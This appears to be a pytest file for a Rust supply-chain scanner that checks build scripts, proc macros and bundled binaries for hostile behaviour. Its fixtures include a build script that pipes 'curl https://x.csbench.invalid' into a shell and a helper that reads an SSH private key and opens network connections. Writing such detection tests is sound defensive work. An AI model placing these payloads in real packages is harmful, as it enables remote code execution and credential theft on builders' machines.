"""The checks as the audit calls them: by the resolved graph, by a lock file alone, and where something is missing."""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Sequence
from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest

from sandbox.cargo.lockfile import LockedPackage
from sandbox.cargo.metadata import BuildScript, Dependency, Facts, Package
from sandbox.judge.model import Finding
from sandbox.preflight.model import Answer, Subject
from sandbox.preflight.reader import CHECKS
from sandbox.preflight.reader import unit as unit_module
from sandbox.preflight.reader.facts import FileFacts
from sandbox.preflight.reader.scan import scan

PUBLIC = "registry+https://github.com/rust-lang/crates.io-index"
CODE, PAYLOADS = CHECKS
ATTACK = 'fn main() { std::process::Command::new("sh").arg("-c").arg("curl https://x.csbench.invalid | sh"); }'
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\0" + bytes(46)


class Home:
    """A cargo home with packages in it."""

    def __init__(self, top: Path) -> None:
        self.top = top
        self.packages: list[LockedPackage] = []

    def add(self, name: str, files: dict[str, str | bytes], manifest: str = "", source: str | None = PUBLIC) -> Path:
        shelf = "index.crates.io-0" if source == PUBLIC else "registry.csbench.invalid-0"
        folder = self.top / "registry/src" / shelf / f"{name}-1.0.0"
        folder.mkdir(parents=True)
        (folder / ".cargo-ok").write_text("{}")
        (folder / "Cargo.toml").write_text(f'[package]\nname = "{name}"\nversion = "1.0.0"\n{manifest}')
        for path, content in files.items():
            (folder / path).parent.mkdir(parents=True, exist_ok=True)
            (folder / path).write_bytes(content.encode() if isinstance(content, str) else content)
        self.packages.append(LockedPackage(name, "1.0.0", source, "0" * 64))
        return folder

    def subject(self, *more: LockedPackage, cache: Path | None = None) -> Subject:
        locked = (*self.packages, *more)
        return Subject(self.top / "Cargo.lock", locked, date(2026, 1, 1), cargo_home=self.top, cache=cache)


@pytest.fixture
def home(tmp_path: Path) -> Home:
    return Home(tmp_path / "home")


def _codes(answer: Answer) -> list[tuple[str, str, str]]:
    return [(one.code, one.severity, one.package) for one in answer.findings]


def _graph(folders: Sequence[tuple[Path, bool, bool]], edges: dict[int, tuple[Dependency, ...]]) -> Facts:
    packages = tuple(
        Package(
            id=str(at), name=folder.name.rpartition("-")[0], version="1.0.0", source=PUBLIC, checksum=None,
            manifest_path=str(folder / "Cargo.toml"), links=None, binaries=(), proc_macro=macro,
            scripts=(BuildScript("build_script_build", str(folder / "build.rs")),) if script else (),
            sources=tuple(str(folder / name) for name in ("src/lib.rs", "build.rs") if (folder / name).exists()),
        )
        for at, (folder, script, macro) in enumerate(folders)
    )  # fmt: skip
    graph = tuple(edges.get(at, ()) for at in range(len(packages)))
    return Facts("/", "/target", packages, (0,), (0,), graph)


def test_an_attack_in_a_build_script_is_found_with_its_lines(home: Home) -> None:
    home.add("csbench-bad", {"build.rs": ATTACK})
    home.add("csbench-good", {"build.rs": 'fn main() { println!("cargo:rerun-if-changed=build.rs"); }'})
    answer = CODE.run(home.subject())
    assert (answer.state, answer.looked_at) == ("done", 2)
    assert _codes(answer) == [("CS0570", "high", "csbench-bad")]
    found: Finding = answer.findings[0]
    assert found.detail == "its build script lets a shell run what is downloaded or decoded"
    assert any(line.startswith("build.rs:1 lets a shell run") for line in found.tree)


def test_a_macro_is_read_from_its_root(home: Home) -> None:
    home.add("csbench-macro", {"src/lib.rs": "mod deed;", "src/deed.rs": ATTACK}, "[lib]\nproc-macro = true\n")
    assert _codes(CODE.run(home.subject())) == [("CS0570", "high", "csbench-macro")]


@pytest.mark.parametrize(
    "said", ["proc-macro = true", "proc_macro = true", 'crate-type = ["proc-macro"]', 'crate_type = ["proc-macro"]']
)
def test_a_macro_is_one_in_every_spelling_that_cargo_takes(home: Home, said: str) -> None:
    home.add("csbench-macro", {"src/lib.rs": ATTACK}, f"[lib]\n{said}\n")
    assert _codes(CODE.run(home.subject())) == [("CS0570", "high", "csbench-macro")]


@pytest.mark.parametrize("package", ["", '[package]\nname = "csbench-old"\nversion = "1.0.0"\nbuild = false\n'])
def test_a_script_that_is_named_by_the_old_table_is_read(home: Home, package: str) -> None:
    folder = home.add("csbench-old", {"tools/make.rs": ATTACK})
    old = '[project]\nname = "csbench-old"\nversion = "1.0.0"\nbuild = "tools/make.rs"\n'
    (folder / "Cargo.toml").write_text(package + old)
    assert _codes(CODE.run(home.subject())) == [("CS0570", "high", "csbench-old")]


def test_a_library_that_runs_nothing_at_build_time_is_not_judged(home: Home) -> None:
    home.add("csbench-library", {"src/lib.rs": ATTACK})
    assert CODE.run(home.subject()) == Answer("build-code", "done", unit="scripts and macros")


@pytest.mark.parametrize("manifest", ['build = "tools/make.rs"\n', 'build = ["build/a.rs", "tools/make.rs"]\n'])
def test_a_script_is_where_the_manifest_says(home: Home, manifest: str) -> None:
    home.add("csbench-bad", {"tools/make.rs": ATTACK, "build/a.rs": "fn main() {}"}, manifest)
    assert _codes(CODE.run(home.subject())) == [("CS0570", "high", "csbench-bad")]


def test_a_script_that_the_manifest_forbids_does_not_run(home: Home) -> None:
    home.add("csbench-odd", {"build.rs": ATTACK}, "build = false\n")
    assert CODE.run(home.subject()).findings == ()


def test_a_package_without_sources_here_is_not_clean(home: Home) -> None:
    answer = CODE.run(home.subject(LockedPackage("csbench-gone", "2.0.0", PUBLIC)))
    assert (answer.state, answer.why) == ("not done", "no sources here of csbench-gone 2.0.0")
    assert PAYLOADS.run(home.subject(LockedPackage("../../x", "1.0.0", PUBLIC))).state == "not done"


@pytest.mark.parametrize(
    "source",
    [
        "git+https://git.csbench.invalid/csbench-twin#" + "0" * 40,
        "registry+https://registry.csbench.invalid/",
        "sparse+https://registry.csbench.invalid/",
    ],
)
def test_the_same_name_from_crates_io_does_not_stand_for_another_source(home: Home, source: str) -> None:
    home.add("csbench-twin", {"build.rs": "fn main() {}"})
    home.packages.clear()
    for check in CHECKS:
        answer = check.run(home.subject(LockedPackage("csbench-twin", "1.0.0", source)))
        assert (answer.state, answer.why) == ("not done", "no sources here of csbench-twin 1.0.0")
        assert answer.looked_at == 0


def test_no_name_and_no_link_leads_out_of_the_cargo_home(home: Home, tmp_path: Path) -> None:
    bad = home.add("csbench-bad", {"build.rs": ATTACK})
    bad.rename(tmp_path / "elsewhere")
    bad.symlink_to(tmp_path / "elsewhere")
    assert CODE.run(home.subject()).why == "no sources here of csbench-bad 1.0.0"
    home.add("inner/csbench-bad", {"build.rs": ATTACK})
    assert CODE.run(home.subject()).findings == ()


def test_syntax_that_the_grammar_does_not_know_is_told_though_its_words_were_read(home: Home) -> None:
    home.add("csbench-odd", {"build.rs": "enum Sign { Tilde(Token![~]) } " + ATTACK})
    assert _codes(CODE.run(home.subject())) == [
        ("CS0570", "high", "csbench-odd"), ("CS0573", "low", "csbench-odd")
    ]  # fmt: skip


def test_a_manifest_that_cannot_be_read_is_not_clean(home: Home) -> None:
    home.add("csbench-broken", {"build.rs": ATTACK}, "= nonsense")
    assert _codes(CODE.run(home.subject())) == [("CS0573", "medium", "csbench-broken")]


def test_a_manifest_that_is_a_link_out_of_the_package_is_not_read(home: Home, tmp_path: Path) -> None:
    folder = home.add("csbench-link", {"build.rs": ATTACK})
    (folder / "Cargo.toml").rename(tmp_path / "elsewhere.toml")
    (folder / "Cargo.toml").symlink_to(tmp_path / "elsewhere.toml")
    (found,) = CODE.run(home.subject()).findings
    assert (found.code, found.detail) == ("CS0573", "its Cargo.toml is a link that leads out of the package")


@pytest.mark.parametrize(
    ("script", "manifest"),
    [
        ('include!("a\\0b"); fn main() {}', ""),
        ('#[path = "a\\0b"] mod x; fn main() {}', ""),
        ('const X: &[u8] = include_bytes!("a\\0b"); fn main() {}', ""),
        ("fn main() {}", 'build = "a\\u0000b"\n'),
    ],
)
def test_a_path_that_can_be_none_costs_no_other_package_its_finding(home: Home, script: str, manifest: str) -> None:
    home.add("csbench-nul", {"build.rs": script}, manifest)
    home.add("csbench-bad", {"build.rs": ATTACK})
    assert ("CS0570", "high", "csbench-bad") in _codes(CODE.run(home.subject()))
    assert "csbench-nul" in {one.package for one in CODE.run(home.subject()).findings}


def test_a_package_that_the_reader_fails_at_is_not_done_and_the_others_are_judged(
    home: Home, monkeypatch: pytest.MonkeyPatch
) -> None:
    home.add("csbench-odd", {"build.rs": "fn main() {}"})
    home.add("csbench-bad", {"build.rs": ATTACK})

    def fail(data: bytes, not_quoting: frozenset[str]) -> FileFacts:
        if b"Command" not in data:
            raise ValueError("csbench")
        return scan(data, not_quoting)

    monkeypatch.setattr(unit_module, "scan", fail)
    answer = CODE.run(home.subject())
    assert _codes(answer) == [("CS0573", "medium", "csbench-odd"), ("CS0570", "high", "csbench-bad")]
    assert (answer.state, answer.why) == ("not done", "not read: csbench-odd 1.0.0: its build script")


def test_a_script_that_is_no_rust_is_not_clean(home: Home) -> None:
    home.add("csbench-broken", {"build.rs": b"\xff\xfe\x00 fn main"})
    assert ("CS0573", "medium", "csbench-broken") in _codes(CODE.run(home.subject()))


def test_what_is_too_large_is_not_done_and_named(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(unit_module, "MAX_BYTES", 10)
    home.add("csbench-large", {"build.rs": " " * 11})
    answer = CODE.run(home.subject())
    assert (answer.state, answer.why) == ("not done", "not read: csbench-large 1.0.0: build.rs")
    assert _codes(answer) == [("CS0573", "medium", "csbench-large")]


HELPER = """
pub fn deliver(text: &str) { inner::send(text) }
pub mod inner { pub fn send(text: &str) { let _ = std::net::TcpStream::connect(text); } }
pub struct Parcel;
impl Parcel { pub fn open() { let _ = std::fs::read("/home/csbench/.ssh/id_rsa"); } }
pub fn other() { let _ = std::fs::write("/usr/lib/csbench", ""); }
"""
USER = 'fn main() { csbench_helper::deliver("x"); let open = csbench_helper::Parcel::open; open(); }'


def test_a_deed_that_is_left_to_a_build_dependency_is_found(home: Home) -> None:
    home.add("csbench-helper", {"src/lib.rs": HELPER})
    home.add("csbench-user", {"build.rs": USER}, '[build-dependencies]\ncsbench-helper = "1"\n')
    answer = CODE.run(home.subject())
    assert _codes(answer) == [("CS0570", "high", "csbench-user")]
    lines = "\n".join(answer.findings[0].tree)
    assert "src/lib.rs:3 talks to the network: std::net::TcpStream::connect (by way of csbench_helper)" in lines
    assert "/usr/lib" not in lines, "nobody called that"


def test_a_called_library_that_is_not_wholly_read_is_not_done(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(unit_module, "MAX_BYTES", 200)
    home.add("csbench-helper", {"src/lib.rs": " " * 201})
    home.add("csbench-user", {"build.rs": USER}, '[build-dependencies]\ncsbench-helper = "1"\n')
    answer = CODE.run(home.subject())
    assert answer.state == "not done"
    assert answer.why == "not read: csbench-user 1.0.0: csbench_helper: src/lib.rs"


def test_a_renamed_dependency_is_found_under_its_other_name(home: Home) -> None:
    home.add("csbench-helper", {"src/lib.rs": HELPER})
    manifest = '[build-dependencies.cc]\npackage = "csbench-helper"\nversion = "1"\n'
    home.add("csbench-user", {"build.rs": USER.replace("csbench_helper", "cc")}, manifest)
    assert _codes(CODE.run(home.subject())) == [("CS0570", "high", "csbench-user")]


def test_a_well_known_name_from_elsewhere_is_not_taken_for_the_known_library(home: Home) -> None:
    home.add("cc", {"src/lib.rs": HELPER}, source="registry+https://registry.csbench.invalid/")
    home.add("csbench-user", {"build.rs": USER.replace("csbench_helper", "cc")}, '[build-dependencies]\ncc = "1"\n')
    assert _codes(CODE.run(home.subject())) == [("CS0570", "high", "csbench-user")]


def test_the_known_library_is_not_followed(home: Home) -> None:
    home.add("cc", {"src/lib.rs": HELPER})
    home.add("csbench-user", {"build.rs": USER.replace("csbench_helper", "cc")}, '[build-dependencies]\ncc = "1"\n')
    assert CODE.run(home.subject()).findings == ()


def test_a_quote_of_a_renamed_package_is_code_that_runs(home: Home) -> None:
    source = f"use quote::quote; #[proc_macro] pub fn f() {{ quote! {{ {ATTACK} }} }}"
    manifest = '[lib]\nproc-macro = true\n[dependencies.quote]\npackage = "csbench-quote"\nversion = "1"\n'
    home.add("csbench-macro", {"src/lib.rs": source}, manifest)
    assert _codes(CODE.run(home.subject())) == [("CS0570", "high", "csbench-macro")]


def test_by_the_graph_only_what_it_connects_is_followed(home: Home) -> None:
    user = home.add("csbench-user", {"build.rs": USER}, '[build-dependencies]\ncsbench-helper = "1"\n')
    helper = home.add("csbench-helper", {"src/lib.rs": HELPER})
    folders = [(user, True, False), (helper, False, False)]
    subject = home.subject()
    with_edge = Subject(subject.lock_file, subject.locked, subject.today,
                        facts=_graph(folders, {0: (Dependency(1, ("build",)),)}))  # fmt: skip
    without = Subject(subject.lock_file, subject.locked, subject.today, facts=_graph(folders, {}))
    assert _codes(CODE.run(with_edge)) == [("CS0570", "high", "csbench-user")]
    assert CODE.run(without).findings == ()


def test_by_the_graph_a_macro_with_a_script_is_read_twice(home: Home) -> None:
    files: dict[str, str | bytes] = {"src/lib.rs": ATTACK, "build.rs": "fn main() {}"}
    folder = home.add("csbench-both", files, "[lib]\nproc-macro = true\n")
    subject = home.subject()
    facts = _graph([(folder, True, True)], {})
    answer = CODE.run(Subject(subject.lock_file, subject.locked, subject.today, facts=facts))
    assert answer.looked_at == 2 and _codes(answer) == [("CS0570", "high", "csbench-both")]


def test_the_second_time_the_answer_comes_out_of_the_cache(home: Home, tmp_path: Path) -> None:
    home.add("csbench-bad", {"build.rs": ATTACK})
    subject = home.subject(cache=tmp_path / "cache")
    assert CODE.run(subject) == CODE.run(subject)
    assert len([one for one in (tmp_path / "cache").rglob("*") if one.is_file()]) == 1


def test_executables_are_found_and_other_things_noted(home: Home) -> None:
    folder = home.add("csbench-bin", {"tests/data.rs": ELF, "x.zip": b"PK\x03\x04" + bytes(30), "run": "#!/bin/sh\n"})
    (folder / "run").chmod(0o755)
    answer = PAYLOADS.run(home.subject())
    assert _codes(answer) == [("CS0572", "medium", "csbench-bin")]
    assert answer.findings[0].detail == "tests/data.rs"
    assert [note.rpartition(",")[0].rpartition(",")[0] for note in answer.notes] == [
        "csbench-bin 1.0.0: carries script (/bin/sh): run",
        "csbench-bin 1.0.0: carries archive (an archive): x.zip",
    ]
    assert answer.looked_at == 5


@pytest.mark.parametrize("folder", ["target", "node_modules", "sub"])
def test_of_a_git_package_no_folder_is_left_out(home: Home, folder: str) -> None:
    top = home.add("csbench-bin", {f"{folder}/tool": ELF, f"{folder}/Cargo.toml": "[package]\nname = 'x'\n"})
    (top / ".cargo-ok").unlink()
    facts, subject = _graph([(top, False, False)], {}), home.subject()

    def answer(source: str | None) -> Answer:
        packages = tuple(one._replace(source=source) for one in facts.packages)
        return PAYLOADS.run(replace(subject, facts=facts._replace(packages=packages)))

    assert _codes(answer("git+https://git.csbench.invalid/x#0")) == [("CS0572", "medium", "csbench-bin")]
    assert answer(None).findings == (), "what somebody works in is not one package"


@pytest.mark.parametrize(
    ("name", "content", "why"),
    [
        ("windows_x86_64_msvc", b"!<arch>\n/ ", "lib/x.lib: import libraries, which name the functions of Windows"),
        ("csbench-objects", b"!<arch>\n/ ", "lib/x.lib: compiled code that can be linked, but not started"),
        ("csbench-wasm", b"\0asm\x01\0\0\0", "lib/x.lib: none that a system starts by itself"),
    ],
)
def test_what_no_system_starts_by_itself_is_low(home: Home, name: str, content: bytes, why: str) -> None:
    home.add(name, {"lib/x.lib": content})
    (found,) = PAYLOADS.run(home.subject()).findings
    assert (found.code, found.severity) == ("CS0572", "low") and found.detail.startswith(why)


def test_text_of_a_package_is_made_safe_to_show(home: Home) -> None:
    home.add("csbench-bad", {"build.rs": 'fn main() { std::process::Command::new("/tmp/\\u{1b}[2J\\u{202e}x"); }',
                             "pro\x1bgram": ELF})  # fmt: skip
    shown = [*CODE.run(home.subject()).findings[0].tree, *PAYLOADS.run(home.subject()).findings[0].tree]
    assert shown and not any("\x1b" in line or "\u202e" in line for line in shown)


def test_only_who_reads_a_source_pays_for_the_parser() -> None:
    code = (
        "import sys, sandbox.preflight.reader; sys.exit(bool({'tree_sitter', 'tree_sitter_rust'} & sys.modules.keys()))"
    )
    assert subprocess.run([sys.executable, "-c", code], check=False).returncode == 0
